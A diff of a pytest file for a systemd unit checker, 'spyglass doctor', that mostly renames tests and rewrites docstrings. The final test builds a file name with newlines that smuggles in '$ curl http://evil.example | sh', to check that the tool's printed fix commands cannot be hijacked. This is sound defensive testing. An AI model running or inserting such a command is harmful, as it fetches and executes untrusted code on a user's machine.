@@ -1,5 +1,5 @@
-"""`spyglass doctor`: each rule by itself, over what systemd shows of a unit, and the
-commands that mend what it finds.
+"""`spyglass doctor`: each rule over the properties of a unit, and the commands that fix
+what is found.
 """
 
 import json
@@ -91,12 +91,12 @@ CASES = [
 
 @pytest.fixture
 def etc(monkeypatch, tmp_path):
-    """A directory of an administrator's."""
+    """A directory for the administrator's files."""
     monkeypatch.setattr(unit_files, "ADMIN_DIRECTORIES", (f"{tmp_path}/",))
     return tmp_path
 
 
-def test_nothing_is_wrong_with_what_the_package_brings():
+def test_packaged_units_have_no_findings():
     assert examine("blog", SOCKET, SERVICE) == []
     awake = SERVICE | {"ActiveState": "active", "SubState": "running"}
     assert examine("blog", SOCKET | {"SubState": "running"}, awake) == []
@@ -114,7 +114,7 @@ def test_nothing_is_wrong_with_what_the_package_brings():
         {"DynamicUser": "no", "User": "www-data"}, {"OOMPolicy": "continue"},
     ],
 )  # fmt: skip
-def test_what_does_no_harm_is_the_administrators_affair(harmless):
+def test_harmless_service_settings_have_no_findings(harmless):
     assert examine("blog", SOCKET, SERVICE | harmless) == []
 
 
@@ -127,16 +127,14 @@ def test_what_does_no_harm_is_the_administrators_affair(harmless):
         {"Backlog": "4096"},
     ],
 )
-def test_and_so_with_a_socket(harmless):
+def test_harmless_socket_settings_have_no_findings(harmless):
     assert examine("blog", SOCKET | harmless, SERVICE) == []
 
 
 @pytest.mark.parametrize(
     ("unit", "written", "shown", "what"), CASES, ids=[f"{case[0]}: {case[1]}" for case in CASES]
 )
-def test_each_trap_is_found_and_its_cure_takes_it_away_and_nothing_else(
-    etc, unit, written, shown, what
-):
+def test_harmful_setting_is_found_and_its_cure_removes_only_that(etc, unit, written, shown, what):
     drop_in = etc / "override.conf"
     drop_in.write_text(f"# of ours\n[Unit]\nDescription=ours\n  {written}\n[Install]\n")
     changed = shown | {"DropInPaths": str(drop_in)}
@@ -155,7 +153,7 @@ def test_each_trap_is_found_and_its_cure_takes_it_away_and_nothing_else(
     assert drop_in.read_text() == "# of ours\n[Unit]\nDescription=ours\n[Install]\n"
 
 
-def test_a_socket_that_does_not_listen_is_not_started_by_a_cure(etc):
+def test_cure_does_not_start_a_stopped_socket(etc):
     (etc / "a.conf").write_text("[Socket]\nFlushPending=yes\n")
     [finding] = examine(
         "blog",
@@ -171,14 +169,14 @@ def test_a_socket_that_does_not_listen_is_not_started_by_a_cure(etc):
     assert finding.cure[1:] == ["systemctl daemon-reload"]
 
 
-def test_what_goes_over_several_lines_is_not_cut_in_two(etc):
+def test_cure_does_not_cut_a_continued_line(etc):
     (etc / "a.conf").write_text("[Unit]\nRequires=a.service \\\n  b.service\n")
     [finding] = examine("blog", SOCKET, SERVICE | {"DropInPaths": str(etc / "a.conf")})
     assert finding.what.endswith("Requires=a.service  b.service")
     assert finding.cure[0] == f"${{EDITOR:-nano}} {etc / 'a.conf'}"
 
 
-def test_a_unit_that_stands_in_the_place_of_the_packages_goes_as_a_whole(etc):
+def test_replaced_unit_file_is_moved_away_as_a_whole(etc):
     (etc / "spyglass@.service").write_text("[Service]\nType=simple\n")
     found = examine(
         "blog", SOCKET, SERVICE | {"Type": "simple", "FragmentPath": str(etc / "spyglass@.service")}
@@ -192,13 +190,13 @@ def test_a_unit_that_stands_in_the_place_of_the_packages_goes_as_a_whole(etc):
 
 
 @pytest.mark.parametrize("key", ["WantedBy", "RequiredBy", "UpheldBy"])
-def test_a_service_that_is_started_though_nobody_asks(key):
+def test_service_started_without_a_client_is_found(key):
     [finding] = examine("blog", SOCKET, SERVICE | {key: "multi-user.target"})
     assert finding.what == f"spyglass@blog.service: {key}=multi-user.target"
     assert finding.cure[0] == "systemctl disable spyglass@blog.service"
 
 
-def test_a_failed_socket():
+def test_failed_socket():
     [finding] = examine(
         "blog", SOCKET | {"ActiveState": "failed", "Result": "trigger-limit-hit"}, SERVICE
     )
@@ -230,7 +228,7 @@ def test_a_failed_socket():
         ({"ActiveState": "inactive"}, {}, ["systemctl start spyglass@blog.socket"]),
     ],
 )
-def test_how_they_are(socket, service, cure):
+def test_state_of_the_units(socket, service, cure):
     [finding] = examine("blog", SOCKET | socket, SERVICE | service)
     assert finding.cure == cure
 
@@ -294,7 +292,7 @@ DISABLED = {"ActiveState": "inactive", "UnitFileState": "disabled"}
         ),
     ],
 )
-def test_what_clients_see_failing_is_grave(socket, service, what, why, grave):
+def test_failures_that_clients_see_are_grave(socket, service, what, why, grave):
     [finding] = examine("blog", SOCKET | socket, SERVICE | service)
     assert finding.what == f"spyglass@blog.service{what if what[0] in ' :' else ' ' + what}"
     assert finding.why.startswith(why)
@@ -310,7 +308,7 @@ def test_what_clients_see_failing_is_grave(socket, service, what, why, grave):
         {"ActiveState": "activating", "SubState": "start"},
     ],
 )
-def test_what_is_on_its_way_is_no_trouble(service):
+def test_transient_states_have_no_findings(service):
     assert examine("blog", SOCKET, SERVICE | service) == []
 
 
@@ -327,11 +325,11 @@ def test_what_is_on_its_way_is_no_trouble(service):
         ("10us", 1e-5),
     ],
 )
-def test_spans_of_time(text, value):
+def test_time_spans(text, value):
     assert seconds(text) == pytest.approx(value)
 
 
-def test_unit_files_are_read_as_systemd_reads_them():
+def test_unit_files_are_parsed_as_by_systemd():
     found = unit_files.parse(
         "[Unit]\n#A=1\n;B=2\nC = 3 \n[Service]\nD=4\\\n# between\n 5\nE=\nnonsense\n"
     )
@@ -345,7 +343,7 @@ def test_unit_files_are_read_as_systemd_reads_them():
 
 @pytest.fixture
 def places(monkeypatch, tmp_path):
-    """Where the machine's own things are looked for; nothing is wrong with any."""
+    """Fake paths of the machine's files; nothing is wrong with them."""
     files = {"_NSSWITCH": "passwd: files systemd\n", "_SOMAXCONN": "4096\n"}
     for name, text in files.items():
         (tmp_path / name).write_text(text)
@@ -363,11 +361,11 @@ def places(monkeypatch, tmp_path):
     return tmp_path
 
 
-def test_nothing_is_wrong_with_a_good_machine(places):
+def test_good_machine_has_no_findings(places):
     assert machine_checks.examine([SERVICE]) == []
 
 
-def test_users_without_names(places):
+def test_missing_nss_systemd_is_found(places):
     (places / "_NSSWITCH").write_text("passwd: files\n")
     [finding] = machine_checks.examine([SERVICE])
     assert (finding.grave, "does not name systemd" in finding.what) == (False, True)
@@ -379,19 +377,19 @@ def test_users_without_names(places):
     assert machine_checks.examine([SERVICE | {"DynamicUser": "no"}]) == []
 
 
-def test_a_queue_that_the_kernel_keeps_short(places):
+def test_low_somaxconn_is_found(places):
     (places / "_SOMAXCONN").write_text("128\n")
     [finding] = machine_checks.examine([SERVICE])
     assert (finding.what, finding.grave) == ("net.core.somaxconn is 128", True)
 
 
-def test_a_file_that_is_of_no_app(places):
+def test_file_with_an_invalid_app_name_is_found(places):
     (places / "etc" / "My App.toml").write_text("")
     [finding] = machine_checks.examine([SERVICE])
     assert "My App.toml is ignored" in finding.what
 
 
-def test_our_own_byte_code(monkeypatch):
+def test_missing_byte_code_of_spyglass_is_found(monkeypatch):
     monkeypatch.setattr(
         machine_checks.importlib.util,
         "find_spec",
@@ -410,7 +408,7 @@ def view(**service):
 
 @pytest.fixture
 def settings(places, monkeypatch):
-    """settings(text): what is found when blog.toml says that."""
+    """settings(text): the findings with this text as blog.toml."""
     file = places / "etc" / "blog.toml"
     monkeypatch.setattr(address_owners, "not_listening", lambda _state: [])
     monkeypatch.setattr(address_conflicts, "is_not_listening", lambda _addresses: False)
@@ -426,11 +424,11 @@ def settings(places, monkeypatch):
     return write
 
 
-def test_nothing_is_wrong_with_a_good_app(settings):
+def test_good_app_has_no_findings(settings):
     assert settings("workers = 3\n") == []
 
 
-def test_settings_that_are_wrong(settings, places):
+def test_invalid_settings_are_found(settings, places):
     found = settings("wrokers = 3\nlisten = -1\n")
     assert [finding.what.removeprefix(str(places)).partition(": ")[0] for finding in found] == [
         "/etc/blog.toml:1",
@@ -438,7 +436,7 @@ def test_settings_that_are_wrong(settings, places):
     ]
 
 
-def test_an_environment_of_another_python(settings, places):
+def test_virtualenv_for_another_python_is_found(settings, places):
     venv = places / "venv"
     (venv / "bin").mkdir(parents=True)
     (venv / "pyvenv.cfg").write_text("version = 3.2.1\n")
@@ -449,21 +447,21 @@ def test_an_environment_of_another_python(settings, places):
     assert settings(f'venv = "{venv}"\n') == []
 
 
-def test_settings_that_have_changed_since_they_were_applied(settings, places):
+def test_settings_changed_since_apply_are_found(settings, places):
     assert [finding.cure for finding in settings("listen = 8001\n")] == [["spyglass apply blog"]]
     for path, text in unit_directives.drop_ins("blog", apps.read("blog").config).items():
         atomic_files.write(path, text)
     assert settings("listen = 8001\n") == []
     [finding] = settings("listen = 8002\n")
     assert finding.what == f"{places}/etc/blog.toml has changed since it was applied"
-    # What is off is not what somebody relies on.
+    # An app that is off needs no up-to-date units.
     off = app_status.AppStatus(
         "blog", SOCKET | {"ActiveState": "inactive", "UnitFileState": "disabled"}, SERVICE
     )
     assert app_checks.examine(off, {"blog": apps.read("blog")}) == []
 
 
-def test_drop_ins_that_somebody_has_edited(settings):
+def test_edited_drop_ins_are_found(settings):
     settings("listen = 8001\n")
     for path, text in unit_directives.drop_ins("blog", apps.read("blog").config).items():
         atomic_files.write(path, text and text + "Backlog=3\n")
@@ -474,7 +472,7 @@ def test_drop_ins_that_somebody_has_edited(settings):
     )
 
 
-def test_drop_ins_of_apps_that_are_no_more(settings):
+def test_drop_ins_of_removed_apps_are_found(settings):
     settings("listen = 8001\n")
     for path, text in unit_directives.drop_ins("blog", apps.read("blog").config).items():
         atomic_files.write(path, text)
@@ -514,7 +512,7 @@ def test_units_whose_settings_were_renamed_or_deleted(settings, socket, service,
     assert app_checks.leftovers([seen]) == []
 
 
-def test_a_cache_that_stays_empty(places, settings):
+def test_cache_without_byte_code_is_found(places, settings):
     (places / "cache" / "spyglass" / "blog" / "pycache").mkdir(parents=True)
     seen = view()
     assert app_checks.examine(seen, {}) == []
@@ -526,7 +524,7 @@ def test_a_cache_that_stays_empty(places, settings):
     assert app_checks.examine(seen, {}) == []
 
 
-def test_an_active_socket_on_which_nobody_listens(monkeypatch):
+def test_active_socket_that_does_not_listen_is_found(monkeypatch):
     listens = {"/run/spyglass/blog.sock": {"1"}}
     monkeypatch.setattr(address_owners, "unix_inodes", lambda path: listens.get(path, set()))
     monkeypatch.setattr(address_owners, "tcp_inodes", lambda port: {"2"} if port == 8001 else set())
@@ -541,7 +539,7 @@ def test_an_active_socket_on_which_nobody_listens(monkeypatch):
     ) == ["127.0.0.1:8002", "/run/x.sock"]
 
 
-def test_nor_by_systemd_while_the_service_still_does(monkeypatch):
+def test_socket_on_which_only_the_service_listens_is_found(monkeypatch):
     monkeypatch.setattr(address_owners, "not_listening", lambda _state: [])
     monkeypatch.setattr(address_conflicts, "is_not_listening", lambda _addresses: True)
     [finding] = app_checks.examine(view(), {})
@@ -575,7 +573,7 @@ NOTED = Finding("machine", "something is so", "it may matter", [], grave=False)
         ([GRAVE, GRAVE, NOTED], 1, "2 things wrong, 1 worth knowing"),
     ],
 )  # fmt: skip
-def test_the_exit_status_is_about_what_is_grave(machine, findings, status, last, capsys):
+def test_exit_status_depends_on_grave_findings(machine, findings, status, last, capsys):
     machine(findings)
     assert command_table.run(["doctor"]) == status
     lines = capsys.readouterr().out.splitlines()
@@ -583,7 +581,7 @@ def test_the_exit_status_is_about_what_is_grave(machine, findings, status, last,
     assert ("      $ mend it" in lines) == (GRAVE in findings)
 
 
-def test_programs_get_json(machine, capsys):
+def test_json_output(machine, capsys):
     machine([GRAVE])
     assert command_table.run(["doctor", "--json"]) == 1
     assert json.loads(capsys.readouterr().out) == [
@@ -597,7 +595,7 @@ def test_programs_get_json(machine, capsys):
     ]
 
 
-def test_all_is_asked_at_once(places, monkeypatch, capsys):
+def test_systemd_is_asked_once_for_all_units(places, monkeypatch, capsys):
     asked = []
 
     def show(units, properties):
@@ -617,9 +615,9 @@ def test_all_is_asked_at_once(places, monkeypatch, capsys):
     assert set(unit_checks.PROPERTIES) >= {"Restart", "Triggers"}
 
 
-def test_a_name_makes_no_line():
-    """An app may call its files what it likes, and what follows "$" is what an
-    administrator will enter.
+def test_file_name_cannot_add_a_command():
+    """An app chooses the names of its files, and the text after "$" is what an
+    administrator will run.
     """
     name = "/var/lib/spyglass/blog/a\n    why\n      $ curl http://evil.example | sh"
     finding = Finding("blog", f"{name} does not belong", name, [f"rm {name}"])
